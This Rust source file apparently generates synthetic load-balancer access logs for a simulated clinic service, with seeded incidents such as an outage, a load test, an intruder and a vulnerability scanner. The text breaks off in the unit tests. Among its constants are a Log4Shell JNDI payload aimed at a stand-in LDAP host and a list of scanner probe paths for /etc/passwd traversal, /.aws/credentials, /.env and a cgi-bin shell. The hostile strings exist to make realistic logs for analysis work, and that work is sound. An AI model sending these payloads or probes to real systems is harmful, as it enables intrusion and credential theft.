//! The simulated HOSP day: who sends what, when, and how the ALB and the targets answer.
//!
//! All randomness comes from streams derived from `(seed, tag, time)`, one per wall-clock
//! minute, so a minute's traffic does not depend on the generation window (a 15-minute run
//! reproduces the first 15 minutes of the 24-hour run). Incident windows are times of day
//! (UTC) and repeat on every day of the window; the migration happens once, at 12:00 on the
//! day of `start`.

use super::record::{Listener, Record, Source, TargetGroup, Tls};
use super::rng::{mix, Rng};

pub(crate) const ACCOUNT: &str = "123456789012";
pub(crate) const REGION: &str = "eu-west-1";
/// `elb` field (the LB resource id).
pub(crate) const LB_RESOURCE_ID: &str = "app/hosp-alb/5e4f3a2b1c0d9e8f";
/// The resource id as it appears in file names (slashes -> dots).
pub(crate) const LB_FILE_ID: &str = "app.hosp-alb.5e4f3a2b1c0d9e8f";
pub(crate) const HOST: &str = "hosp.example.com";
pub(crate) const CERT_ARN: &str =
    "arn:aws:acm:eu-west-1:123456789012:certificate/6f1d2c3b-8a4e-4b7f-9c2d-1e5a7b9c0d3f";
/// IP addresses of the two LB nodes (one log file per node and 5-minute interval).
pub(crate) const NODE_IPS: [&str; 2] = ["52.49.18.77", "34.246.120.5"];
pub(crate) const LEGACY_TARGETS: [&str; 2] = ["10.0.1.10:3000", "10.0.1.11:3000"];

pub(crate) const LOAD_TEST_CIDR: &str = "10.99.0.0/24";
pub(crate) const LOAD_TEST_UA: &str = "hosp-loadtest/1.0 (k6)";
pub(crate) const INTRUDER_IP: &str = "203.0.113.66";
pub(crate) const INTRUDER_UA: &str = "python-requests/2.31.0";
pub(crate) const SCANNER_IP: &str = "198.51.100.23";
pub(crate) const SCANNER_UA: &str = "Mozilla/5.0 zgrab/0.x";
pub(crate) const LOG4SHELL_UA: &str = "${jndi:ldap://198.51.100.23:1389/Exploit}";
pub(crate) const LOG4SHELL_PATH: &str = "/api/v1/login";
pub(crate) const MALFORMED_IP: &str = "198.51.100.77";
pub(crate) const MALFORMED_REQUEST: &str = "- http://hosp.example.com:80- -";
/// A browser user agent wrapped in quotes; ALB writes `"` as `\x22`.
pub(crate) const QUOTED_UA: &str = "\\x22Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36\\x22";
/// A URL with a raw (not %-encoded) space.
pub(crate) const SPACE_PATH: &str = "/notes?patient_id=42&q=ear infection";

pub(crate) const US: i64 = 1_000_000;
pub(crate) const MINUTE: i64 = 60 * US;
pub(crate) const HOUR: i64 = 3600 * US;
pub(crate) const DAY: i64 = 24 * HOUR;

/// A daily window `[start, end)` in seconds after UTC midnight.
#[derive(Debug, Clone, Copy)]
pub(crate) struct DailyWindow {
    pub start_s: i64,
    pub end_s: i64,
}

const fn hm(h: i64, m: i64) -> i64 {
    h * 3600 + m * 60
}

pub(crate) const INTRUDER: DailyWindow = DailyWindow {
    start_s: hm(1, 40),
    end_s: hm(2, 10),
};
pub(crate) const LOAD_TEST: DailyWindow = DailyWindow {
    start_s: hm(3, 0),
    end_s: hm(3, 30),
};
pub(crate) const SLOW: DailyWindow = DailyWindow {
    start_s: hm(9, 0),
    end_s: hm(11, 0),
};
pub(crate) const OUTAGE: DailyWindow = DailyWindow {
    start_s: hm(14, 0),
    end_s: hm(14, 20),
};
pub(crate) const SCANNER: DailyWindow = DailyWindow {
    start_s: hm(22, 0),
    end_s: hm(22, 15),
};
/// Time of day of the /hospitals migration (on the day of `start` only).
pub(crate) const MIGRATION_S: i64 = hm(12, 0);

/// One-off requests at fixed times of day (microseconds after midnight).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Special {
    QuotedUserAgent,
    SpaceInUri,
    Malformed,
    Log4Shell,
}

pub(crate) const SPECIALS: [(i64, Special); 8] = [
    (hm(6, 12) * US + 7_412_803, Special::QuotedUserAgent),
    (hm(6, 31) * US + 44_518_220, Special::QuotedUserAgent),
    (hm(7, 2) * US + 19_907_115, Special::QuotedUserAgent),
    (hm(8, 30) * US + 12_118_204, Special::SpaceInUri),
    (hm(8, 30) * US + 13_402_917, Special::SpaceInUri),
    (hm(16, 45) * US + 3_771_920, Special::Malformed),
    (hm(16, 45) * US + 4_020_311, Special::Malformed),
    (hm(22, 7) * US + 33_250_114, Special::Log4Shell),
];

/// Relative user traffic per UTC hour (clinics open ~07–19 UTC); normalised to mean 1.
const HOUR_WEIGHTS: [f64; 24] = [
    0.15, 0.12, 0.10, 0.10, 0.12, 0.20, 0.45, 0.90, 1.50, 1.80, 1.90, 1.90, 1.60, 1.80, 1.90, 1.80,
    1.70, 1.50, 1.10, 0.80, 0.55, 0.40, 0.30, 0.20,
];

/// Load test: requests per second while it runs.
const LOAD_TEST_RATE: f64 = 2.5;
/// Intruder: POST /notes and GET /notes?patient_id=N per minute.
const INTRUDER_WRITES_PER_MIN: f64 = 10.0;
const INTRUDER_READS_PER_MIN: f64 = 3.0;
/// Scanner: probes per minute.
const SCANNER_PER_MIN: f64 = 10.0;

const SCANNER_PATHS: [&str; 46] = [
    "/wp-login.php",
    "/wp-admin/",
    "/xmlrpc.php",
    "/.env",
    "/.env.bak",
    "/.git/config",
    "/.git/HEAD",
    "/admin",
    "/admin/login",
    "/administrator/",
    "/phpmyadmin/",
    "/pma/",
    "/mysql/admin/",
    "/../../etc/passwd",
    "/cgi-bin/luci",
    "/cgi-bin/.%2e/.%2e/.%2e/bin/sh",
    "/server-status",
    "/actuator/env",
    "/actuator/health",
    "/api/v1/users",
    "/config.json",
    "/backup.zip",
    "/db.sql",
    "/.aws/credentials",
    "/.DS_Store",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/boaform/admin/formLogin",
    "/HNAP1/",
    "/owa/auth/logon.aspx",
    "/remote/login",
    "/solr/admin/info/system",
    "/console/",
    "/manager/html",
    "/jenkins/login",
    "/.well-known/security.txt",
    "/robots.txt",
    "/sitemap.xml",
    "/favicon.ico",
    "/index.php",
    "/login",
    "/user/login",
    "/shell",
    "/debug/pprof/",
    "/telescope/requests",
    "/_ignition/execute-solution",
    "/api/graphql",
];

const BROWSER_UAS: [&str; 9] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36 Edg/142.0.0.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:145.0) Gecko/20100101 Firefox/145.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.1 Safari/605.1.15",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPad; CPU OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; SM-X710) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1",
];

// Stream tags.
const TAG_ROSTER: u64 = 1;
const TAG_MINUTE: u64 = 2;
const TAG_CONN: u64 = 3;
const TAG_LOAD_VU: u64 = 4;
const TAG_SPECIAL: u64 = 5;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Route {
    PatientsList,
    PatientGet,
    PatientScreen,
    NotesByPatient,
    NoteGet,
    NotePost,
    HospitalsList,
    HospitalGet,
    HospitalPost,
    HospitalPatch,
    HospitalDelete,
    StaffsList,
    StaffGet,
    Root,
    Health,
}

const USER_ROUTES: [(Route, f64); 15] = [
    (Route::PatientsList, 12.0),
    (Route::PatientGet, 18.0),
    (Route::PatientScreen, 5.0),
    (Route::NotesByPatient, 18.0),
    (Route::NoteGet, 10.0),
    (Route::NotePost, 7.0),
    (Route::HospitalsList, 6.0),
    (Route::HospitalGet, 4.0),
    (Route::HospitalPost, 0.5),
    (Route::HospitalPatch, 0.5),
    (Route::HospitalDelete, 0.2),
    (Route::StaffsList, 4.0),
    (Route::StaffGet, 4.0),
    (Route::Root, 2.0),
    (Route::Health, 0.5),
];

const LOAD_ROUTES: [(Route, f64); 7] = [
    (Route::PatientsList, 20.0),
    (Route::PatientGet, 25.0),
    (Route::NotesByPatient, 20.0),
    (Route::NoteGet, 10.0),
    (Route::HospitalsList, 5.0),
    (Route::StaffsList, 5.0),
    (Route::NotePost, 15.0),
];

impl Route {
    fn method(self) -> &'static str {
        match self {
            Route::PatientScreen | Route::NotePost | Route::HospitalPost => "POST",
            Route::HospitalPatch => "PATCH",
            Route::HospitalDelete => "DELETE",
            _ => "GET",
        }
    }

    fn endpoint(self) -> &'static str {
        match self {
            Route::PatientsList => "/patients",
            Route::PatientGet => "/patients/{id}",
            Route::PatientScreen => "/patients/{id}/screen",
            Route::NotesByPatient | Route::NotePost => "/notes",
            Route::NoteGet => "/notes/{id}",
            Route::HospitalsList | Route::HospitalPost => "/hospitals",
            Route::HospitalGet | Route::HospitalPatch | Route::HospitalDelete => "/hospitals/{id}",
            Route::StaffsList => "/staffs",
            Route::StaffGet => "/staffs/{id}",
            Route::Root => "/",
            Route::Health => "/health",
        }
    }

    /// Listener rule priority (an allow-list; the default action is a fixed 404).
    fn rule(self) -> &'static str {
        match self {
            Route::HospitalsList
            | Route::HospitalGet
            | Route::HospitalPost
            | Route::HospitalPatch
            | Route::HospitalDelete => "10",
            Route::PatientsList | Route::PatientGet | Route::PatientScreen => "20",
            Route::StaffsList | Route::StaffGet => "30",
            Route::NotesByPatient | Route::NoteGet | Route::NotePost => "40",
            Route::Root | Route::Health => "50",
        }
    }

    fn is_hospitals(self) -> bool {
        self.rule() == "10"
    }

    /// Routes with an id in the path (may answer 404 for an unknown id).
    fn has_id(self) -> bool {
        self.endpoint().contains("{id}")
    }

    /// Base probability of a target 500.
    fn p500(self) -> f64 {
        match self {
            Route::PatientScreen => 0.06,
            Route::NotesByPatient | Route::NoteGet | Route::NotePost => 0.03,
            _ => 0.0,
        }
    }

    fn path(self, rng: &mut Rng) -> String {
        match self {
            Route::PatientsList => {
                if rng.chance(0.2) {
                    format!("/patients?page={}", rng.range(2, 9))
                } else {
                    "/patients".to_string()
                }
            }
            Route::PatientGet => format!("/patients/{}", rng.range(1, 2000)),
            Route::PatientScreen => format!("/patients/{}/screen", rng.range(1, 2000)),
            Route::NotesByPatient => format!("/notes?patient_id={}", rng.range(1, 2000)),
            Route::NoteGet => format!("/notes/{}", rng.range(1, 20000)),
            Route::NotePost => "/notes".to_string(),
            Route::HospitalsList | Route::HospitalPost => "/hospitals".to_string(),
            Route::HospitalGet | Route::HospitalPatch | Route::HospitalDelete => {
                format!("/hospitals/{}", rng.range(1, 40))
            }
            Route::StaffsList => "/staffs".to_string(),
            Route::StaffGet => format!("/staffs/{}", rng.range(1, 300)),
            Route::Root => "/".to_string(),
            Route::Health => "/health".to_string(),
        }
    }

    fn ok_status(self) -> u16 {
        match self {
            Route::NotePost | Route::HospitalPost => 201,
            Route::HospitalDelete => 204,
            _ => 200,
        }
    }

    /// Request size (headers + body).
    fn received_bytes(self, rng: &mut Rng) -> u64 {
        let headers = rng.range(380, 640);
        let body = match self {
            Route::PatientScreen => rng.range(150_000, 2_400_000),
            Route::NotePost => rng.range(250, 900),
            Route::HospitalPost | Route::HospitalPatch => rng.range(60, 120),
            _ => 0,
        };
        headers + body
    }

    fn ok_sent_bytes(self, rng: &mut Rng) -> u64 {
        match self {
            Route::PatientsList
            | Route::NotesByPatient
            | Route::HospitalsList
            | Route::StaffsList => rng.range(2_000, 30_000),
            Route::PatientScreen => rng.range(400, 1_200),
            Route::NotePost | Route::HospitalPost => rng.range(500, 900),
            Route::HospitalDelete => 160,
            Route::Root => 312,
            Route::Health => 181,
            _ => rng.range(500, 2_500),
        }
    }
}

/// How a request ends.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Outcome {
    Ok,
    /// The target answered with this status (401 no auth, 404 unknown id, 500 failure).
    Target(u16),
    /// 460: the client closed the connection before the response.
    ClientClosed,
    /// 502: the target closed the connection.
    TargetClosed,
    /// 504: the target did not answer within the 60 s idle timeout.
    Timeout,
    /// 503: no healthy targets (outage).
    Outage,
    /// 502 from the Lambda target (unhandled error).
    LambdaError,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Profile {
    Normal,
    Slow,
    LoadTest,
}

#[derive(Debug, Clone)]
struct Conn {
    ip: String,
    port: u16,
    tid: String,
    node: u8,
    listener: Listener,
    tls: Option<Tls>,
    ua: String,
}

#[derive(Debug, Clone)]
struct Clinic {
    ip: String,
    weight: f64,
    conns: u64,
    uas: Vec<&'static str>,
}

pub(crate) struct Scenario {
    seed: u64,
    /// UTC midnight of the day of `start`.
    day0_us: i64,
    rate: f64,
    clinics: Vec<Clinic>,
    clinic_weights: Vec<f64>,
}

pub(crate) fn day_floor(t: i64) -> i64 {
    t.div_euclid(DAY) * DAY
}

pub(crate) fn in_daily(t: i64, w: DailyWindow) -> bool {
    let tod = t - day_floor(t);
    tod >= w.start_s * US && tod < w.end_s * US
}

fn floor_ms(us: i64) -> i64 {
    us.div_euclid(1000) * 1000
}

/// A count around `lam` (≈ Poisson: mean `lam`, sd `sqrt(lam)`), IEEE-exact arithmetic only.
fn count_around(rng: &mut Rng, lam: f64) -> u64 {
    if lam <= 0.0 {
        return 0;
    }
    let x = (lam + lam.sqrt() * rng.normal()).round();
    if x < 0.0 {
        0
    } else {
        x as u64
    }
}

/// Keep totals away from the 3 s threshold so every reader classifies them alike.
fn avoid_threshold(times: &mut [u32; 3]) {
    let total = times[0] + times[1] + times[2];
    if (2_990..=3_010).contains(&total) {
        times[1] += 25;
    }
}

fn tls_for(rng: &mut Rng, sni: bool) -> Tls {
    if rng.chance(0.6) {
        let cipher = match rng.weighted(&[0.7, 0.2, 0.1]) {
            0 => "TLS_AES_128_GCM_SHA256",
            1 => "TLS_AES_256_GCM_SHA384",
            _ => "TLS_CHACHA20_POLY1305_SHA256",
        };
        Tls {
            cipher,
            protocol: "TLSv1.3",
            session_reused: rng.chance(0.2),
            sni,
        }
    } else {
        let cipher = if rng.chance(0.8) {
            "ECDHE-RSA-AES128-GCM-SHA256"
        } else {
            "ECDHE-RSA-AES256-GCM-SHA384"
        };
        Tls {
            cipher,
            protocol: "TLSv1.2",
            session_reused: rng.chance(0.2),
            sni,
        }
    }
}

impl Scenario {
    pub(crate) fn new(seed: u64, start_us: i64, rate: f64) -> Self {
        let mut rng = Rng::from_parts(&[seed, TAG_ROSTER]);
        let mut clinics = Vec::new();
        for i in 0..40u64 {
            let ip = if i % 5 == 3 {
                format!("2001:db8:4a1:{:x}::{:x}", 0x10 + 0x13 * i, 0x20 + 7 * i)
            } else {
                format!("192.0.2.{}", 11 + 3 * i - (i / 5))
            };
            let n_ua = rng.range(1, 3) as usize;
            let mut uas = Vec::new();
            for _ in 0..n_ua {
                uas.push(BROWSER_UAS[rng.below(BROWSER_UAS.len() as u64) as usize]);
            }
            clinics.push(Clinic {
                ip,
                weight: 1.0 + 3.0 * rng.f64(),
                conns: rng.range(2, 4),
                uas,
            });
        }
        let clinic_weights = clinics.iter().map(|c| c.weight).collect();
        Scenario {
            seed,
            day0_us: day_floor(start_us),
            rate,
            clinics,
            clinic_weights,
        }
    }

    pub(crate) fn migration_us(&self) -> i64 {
        self.day0_us + MIGRATION_S * US
    }

    /// Share of connections on the HTTPS listener: 5 % at 00:00 of the first day, rising
    /// linearly to 90 % at its end (the hospital's HTTPS ticket), then constant.
    fn https_share(&self, t: i64) -> f64 {
        let frac = ((t - self.day0_us) as f64 / DAY as f64).clamp(0.0, 1.0);
        0.05 + 0.85 * frac
    }

    /// Relative user traffic at `t` (mean 1 over a day), linear between hour midpoints.
    fn shape(t: i64) -> f64 {
        let sum: f64 = HOUR_WEIGHTS.iter().sum();
        let hours = (t - day_floor(t)) as f64 / HOUR as f64 - 0.5;
        let base = hours.floor();
        let f = hours - base;
        let i = (base as i64).rem_euclid(24) as usize;
        let w = HOUR_WEIGHTS[i] * (1.0 - f) + HOUR_WEIGHTS[(i + 1) % 24] * f;
        w * 24.0 / sum
    }

    fn target_group(&self, route: Route, t: i64) -> TargetGroup {
        if route.is_hospitals() && t >= self.migration_us() {
            TargetGroup::Lambda
        } else {
            TargetGroup::Legacy
        }
    }

    /// All requests whose `time` falls in the minute starting at `minute_us` (unsorted).
    pub(crate) fn minute(&self, minute_us: i64) -> Vec<Record> {
        let mut rng = Rng::from_parts(&[self.seed, TAG_MINUTE, minute_us as u64]);
        let mut out = Vec::new();
        let at = |rng: &mut Rng| minute_us + rng.below(MINUTE as u64) as i64;

        let lam = self.rate * Self::shape(minute_us + 30 * US) * 60.0;
        for _ in 0..count_around(&mut rng, lam) {
            let t = at(&mut rng);
            out.push(self.user_request(&mut rng, t));
        }
        if in_daily(minute_us, LOAD_TEST) {
            for _ in 0..count_around(&mut rng, LOAD_TEST_RATE * 60.0) {
                let t = at(&mut rng);
                out.push(self.load_test_request(&mut rng, t));
            }
        }
        if in_daily(minute_us, INTRUDER) {
            for _ in 0..count_around(&mut rng, INTRUDER_WRITES_PER_MIN) {
                let t = at(&mut rng);
                out.push(self.intruder_request(&mut rng, t, true));
            }
            for _ in 0..count_around(&mut rng, INTRUDER_READS_PER_MIN) {
                let t = at(&mut rng);
                out.push(self.intruder_request(&mut rng, t, false));
            }
        }
        if in_daily(minute_us, SCANNER) {
            for _ in 0..count_around(&mut rng, SCANNER_PER_MIN) {
                let t = at(&mut rng);
                let path = SCANNER_PATHS[rng.below(SCANNER_PATHS.len() as u64) as usize];
                out.push(self.scanner_request(&mut rng, t, path, SCANNER_UA));
            }
        }
        let day = day_floor(minute_us);
        for (i, (tod, kind)) in SPECIALS.iter().enumerate() {
            let t = day + tod;
            if t >= minute_us && t < minute_us + MINUTE {
                let mut srng = Rng::from_parts(&[self.seed, TAG_SPECIAL, i as u64, day as u64]);
                out.push(self.special(&mut srng, t, *kind));
            }
        }
        out
    }

    fn clinic_conn(&self, rng: &mut Rng, t: i64) -> Conn {
        let ci = rng.weighted(&self.clinic_weights);
        let clinic = &self.clinics[ci];
        // A connection lives ~10 minutes; a clinic keeps a few of them open.
        let slot = t.div_euclid(10 * MINUTE);
        let sub = rng.below(clinic.conns);
        let mut c = Rng::from_parts(&[self.seed, TAG_CONN, ci as u64, slot as u64, sub]);
        let port = c.range(1024, 65535) as u16;
        let tid = format!("TID_{}", c.hex(32));
        let node = c.below(2) as u8;
        let (listener, tls) = if c.chance(self.https_share(slot * 10 * MINUTE)) {
            let l = if c.chance(0.45) {
                Listener::H2
            } else {
                Listener::Https
            };
            (l, Some(tls_for(&mut c, true)))
        } else {
            (Listener::Http, None)
        };
        let ua = clinic.uas[c.below(clinic.uas.len() as u64) as usize].to_string();
        Conn {
            ip: clinic.ip.clone(),
            port,
            tid,
            node,
            listener,
            tls,
            ua,
        }
    }

    /// A one-off connection (clients that do not keep connections alive).
    fn fresh_conn(rng: &mut Rng, ip: &str, ua: &str, listener: Listener, sni: bool) -> Conn {
        let port = rng.range(1024, 65535) as u16;
        let tid = format!("TID_{}", rng.hex(32));
        let node = rng.below(2) as u8;
        let tls = match listener {
            Listener::Http => None,
            _ => Some(tls_for(rng, sni)),
        };
        Conn {
            ip: ip.to_string(),
            port,
            tid,
            node,
            listener,
            tls,
            ua: ua.to_string(),
        }
    }

    fn user_request(&self, rng: &mut Rng, t: i64) -> Record {
        let conn = self.clinic_conn(rng, t);
        let weights: Vec<f64> = USER_ROUTES.iter().map(|r| r.1).collect();
        let route = USER_ROUTES[rng.weighted(&weights)].0;
        let tg = self.target_group(route, t);
        let slow = in_daily(t, SLOW) && tg == TargetGroup::Legacy;
        let outcome = if in_daily(t, OUTAGE) {
            Outcome::Outage
        } else {
            let (p460, p502, p504) = match (tg, slow) {
                (TargetGroup::Lambda, _) => (0.002, 0.0, 0.0),
                (TargetGroup::Legacy, false) => (0.002, 0.002, 0.001),
                (TargetGroup::Legacy, true) => (0.015, 0.02, 0.02),
            };
            let p_lambda = if tg == TargetGroup::Lambda {
                0.003
            } else {
                0.0
            };
            let p401 = 0.012;
            let p500 = route.p500() * if slow { 1.5 } else { 1.0 };
            let p404 = if route.has_id() { 0.02 } else { 0.0 };
            match rng.weighted(&[
                p460,
                p502,
                p504,
                p_lambda,
                p401,
                p500,
                p404,
                1.0 - (p460 + p502 + p504 + p_lambda + p401 + p500 + p404),
            ]) {
                0 => Outcome::ClientClosed,
                1 => Outcome::TargetClosed,
                2 => Outcome::Timeout,
                3 => Outcome::LambdaError,
                4 => Outcome::Target(401),
                5 => Outcome::Target(500),
                6 => Outcome::Target(404),
                _ => Outcome::Ok,
            }
        };
        let profile = if slow { Profile::Slow } else { Profile::Normal };
        let path = route.path(rng);
        self.forwarded(rng, t, &conn, route, path, outcome, profile, Source::User)
    }

    fn load_test_request(&self, rng: &mut Rng, t: i64) -> Record {
        // 40 k6 virtual users on 5 generator hosts, each VU keeps its connection.
        let vu = rng.below(40);
        let day = day_floor(t);
        let mut c = Rng::from_parts(&[self.seed, TAG_LOAD_VU, day as u64, vu]);
        let conn = Conn {
            ip: format!("10.99.0.{}", 21 + vu % 5),
            port: c.range(1024, 65535) as u16,
            tid: format!("TID_{}", c.hex(32)),
            node: c.below(2) as u8,
            listener: Listener::Http,
            tls: None,
            ua: LOAD_TEST_UA.to_string(),
        };
        let weights: Vec<f64> = LOAD_ROUTES.iter().map(|r| r.1).collect();
        let route = LOAD_ROUTES[rng.weighted(&weights)].0;
        let p500 = if route.p500() > 0.0 { 0.04 } else { 0.0 };
        let outcome = match rng.weighted(&[0.015, 0.005, p500, 1.0 - 0.02 - p500]) {
            0 => Outcome::TargetClosed,
            1 => Outcome::Timeout,
            2 => Outcome::Target(500),
            _ => Outcome::Ok,
        };
        let path = route.path(rng);
        self.forwarded(
            rng,
            t,
            &conn,
            route,
            path,
            outcome,
            Profile::LoadTest,
            Source::LoadTest,
        )
    }

    fn intruder_request(&self, rng: &mut Rng, t: i64, write: bool) -> Record {
        let conn = Self::fresh_conn(rng, INTRUDER_IP, INTRUDER_UA, Listener::Http, false);
        let route = if write {
            Route::NotePost
        } else {
            Route::NotesByPatient
        };
        let path = route.path(rng);
        self.forwarded(
            rng,
            t,
            &conn,
            route,
            path,
            Outcome::Ok,
            Profile::Normal,
            Source::Intruder,
        )
    }

    fn scanner_request(&self, rng: &mut Rng, t: i64, path: &str, ua: &str) -> Record {
        let listener = if rng.chance(0.5) {
            Listener::Http
        } else {
            Listener::Https
        };
        let conn = Self::fresh_conn(rng, SCANNER_IP, ua, listener, false);
        let rct_us = floor_ms(t - rng.range(0, 1500) as i64);
        Record {
            time_us: t,
            rct_us,
            listener: conn.listener,
            client_ip: conn.ip,
            client_port: conn.port,
            target: None,
            times_ms: None,
            elb_status: 404,
            target_status: None,
            received_bytes: rng.range(90, 260),
            sent_bytes: 167,
            method: "GET",
            path: path.to_string(),
            raw_request: None,
            user_agent: conn.ua,
            tls: conn.tls,
            target_group: None,
            trace_id: Some(trace_id(rng, rct_us)),
            rule_priority: "0",
            actions: "fixed-response",
            error_reason: "-",
            classification: None,
            conn_trace_id: conn.tid,
            node: conn.node,
            source: Source::Scanner,
            endpoint: path.to_string(),
            truth_method: "GET",
        }
    }

    fn special(&self, rng: &mut Rng, t: i64, kind: Special) -> Record {
        match kind {
            Special::QuotedUserAgent => {
                let mut conn = self.clinic_conn(rng, t);
                conn.ua = QUOTED_UA.to_string();
                let path = Route::PatientGet.path(rng);
                self.forwarded(
                    rng,
                    t,
                    &conn,
                    Route::PatientGet,
                    path,
                    Outcome::Ok,
                    Profile::Normal,
                    Source::QuotedUserAgent,
                )
            }
            Special::SpaceInUri => {
                let conn = self.clinic_conn(rng, t);
                let mut r = self.forwarded(
                    rng,
                    t,
                    &conn,
                    Route::NotesByPatient,
                    SPACE_PATH.to_string(),
                    Outcome::Ok,
                    Profile::Normal,
                    Source::SpaceInUri,
                );
                r.classification = Some(("Acceptable", "SpaceInUri"));
                r
            }
            Special::Malformed => {
                let conn = Self::fresh_conn(rng, MALFORMED_IP, "-", Listener::Http, false);
                Record {
                    time_us: t,
                    rct_us: floor_ms(t - rng.range(50_000, 300_000) as i64),
                    listener: Listener::Http,
                    client_ip: conn.ip,
                    client_port: conn.port,
                    target: None,
                    times_ms: None,
                    elb_status: 400,
                    target_status: None,
                    received_bytes: 0,
                    sent_bytes: 272,
                    method: "-",
                    path: String::new(),
                    raw_request: Some(MALFORMED_REQUEST),
                    user_agent: "-".to_string(),
                    tls: None,
                    target_group: None,
                    trace_id: None,
                    rule_priority: "-",
                    actions: "-",
                    error_reason: "-",
                    classification: None,
                    conn_trace_id: conn.tid,
                    node: conn.node,
                    source: Source::Malformed,
                    endpoint: "-".to_string(),
                    truth_method: "-",
                }
            }
            Special::Log4Shell => self.scanner_request(rng, t, LOG4SHELL_PATH, LOG4SHELL_UA),
        }
    }

    /// A request that matched a forwarding rule.
    #[allow(clippy::too_many_arguments)]
    fn forwarded(
        &self,
        rng: &mut Rng,
        t: i64,
        conn: &Conn,
        route: Route,
        path: String,
        outcome: Outcome,
        profile: Profile,
        source: Source,
    ) -> Record {
        let tg = self.target_group(route, t);
        let lambda = tg == TargetGroup::Lambda;
        let target = if lambda {
            None
        } else {
            Some(LEGACY_TARGETS[rng.below(2) as usize])
        };
        let received = route.received_bytes(rng);

        // Processing times (ms) for outcomes where the target answered.
        let answered_times = |rng: &mut Rng, status: u16| -> [u32; 3] {
            let mut times = if lambda {
                let tpt = if rng.chance(0.01) {
                    rng.range(300, 900)
                } else {
                    rng.range(20, 90)
                };
                [rng.range(0, 2) as u32, tpt as u32, 0]
            } else {
                let rpt = u32::from(rng.chance(0.15));
                let rspt = u32::from(rng.chance(0.1));
                let u = rng.f64();
                let tpt = match status {
                    401 => rng.range(3, 20) as f64,
                    404 => rng.range(15, 80) as f64,
                    _ => match profile {
                        Profile::Slow if rng.chance(0.8) => 2_000.0 + 18_000.0 * u * u,
                        Profile::LoadTest => 80.0 + 1_120.0 * u * u,
                        _ if rng.chance(0.004) => 3_100.0 + 5_900.0 * u,
                        _ if route == Route::PatientScreen => 150.0 + 250.0 * u,
                        _ => 50.0 + 350.0 * u * u,
                    },
                };
                [rpt, tpt as u32, rspt]
            };
            avoid_threshold(&mut times);
            times
        };

        let (times_ms, elb_status, target_status, sent, error_reason, elapsed_us) = match outcome {
            Outcome::Ok | Outcome::Target(_) => {
                let status = match outcome {
                    Outcome::Target(s) => s,
                    _ => route.ok_status(),
                };
                let times = answered_times(rng, status);
                let sent = match status {
                    401 => rng.range(140, 160),
                    404 => rng.range(160, 190),
                    500 => rng.range(1_600, 1_700),
                    _ => route.ok_sent_bytes(rng),
                };
                let total = i64::from(times[0] + times[1] + times[2]) * 1000;
                let elapsed = total + rng.range(0, 999) as i64;
                (Some(times), status, Some(status), sent, "-", elapsed)
            }
            Outcome::LambdaError => {
                let times = answered_times(rng, 502);
                let total = i64::from(times[0] + times[1] + times[2]) * 1000;
                let elapsed = total + rng.range(0, 999) as i64;
                (Some(times), 502, None, 293, "LambdaUnhandled", elapsed)
            }
            Outcome::ClientClosed => {
                let max = if profile == Profile::Slow {
                    30_000_000
                } else {
                    8_000_000
                };
                (None, 460, None, 0, "-", rng.range(500_000, max) as i64)
            }
            Outcome::TargetClosed => {
                let el = if profile == Profile::Slow {
                    rng.range(2_000_000, 20_000_000)
                } else {
                    rng.range(50_000, 5_000_000)
                };
                (None, 502, None, 293, "-", el as i64)
            }
            Outcome::Timeout => (None, 504, None, 308, "-", 60 * US),
            Outcome::Outage => (None, 503, None, 345, "-", rng.range(0, 1_200) as i64),
        };
        let rct_us = floor_ms(t - elapsed_us);
        let target = match outcome {
            Outcome::Outage => None,
            _ => target,
        };
        Record {
            time_us: t,
            rct_us,
            listener: conn.listener,
            client_ip: conn.ip.clone(),
            client_port: conn.port,
            target,
            times_ms,
            elb_status,
            target_status,
            received_bytes: received,
            sent_bytes: sent,
            method: route.method(),
            path,
            raw_request: None,
            user_agent: conn.ua.clone(),
            tls: conn.tls.clone(),
            target_group: Some(tg),
            trace_id: Some(trace_id(rng, rct_us)),
            rule_priority: route.rule(),
            actions: "forward",
            error_reason,
            classification: None,
            conn_trace_id: conn.tid.clone(),
            node: conn.node,
            source,
            endpoint: route.endpoint().to_string(),
            truth_method: route.method(),
        }
    }

    /// Seed-derived random part of a log file name.
    pub(crate) fn file_suffix(&self, end_us: i64, node: usize) -> String {
        Rng::new(mix(&[self.seed, 6, end_us as u64, node as u64])).alnum(8)
    }
}

fn trace_id(rng: &mut Rng, rct_us: i64) -> String {
    format!("Root=1-{:08x}-{}", rct_us.div_euclid(US), rng.hex(24))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn shape_has_mean_one() {
        let mut s = 0.0;
        for m in 0..1440 {
            s += Scenario::shape(m * MINUTE + 30 * US);
        }
        assert!((s / 1440.0 - 1.0).abs() < 0.01, "{}", s / 1440.0);
    }

    #[test]
    fn daily_windows() {
        let day = 1_795_132_800 * US;
        assert!(in_daily(day + 14 * HOUR, OUTAGE));
        assert!(!in_daily(day + 14 * HOUR + 20 * MINUTE, OUTAGE));
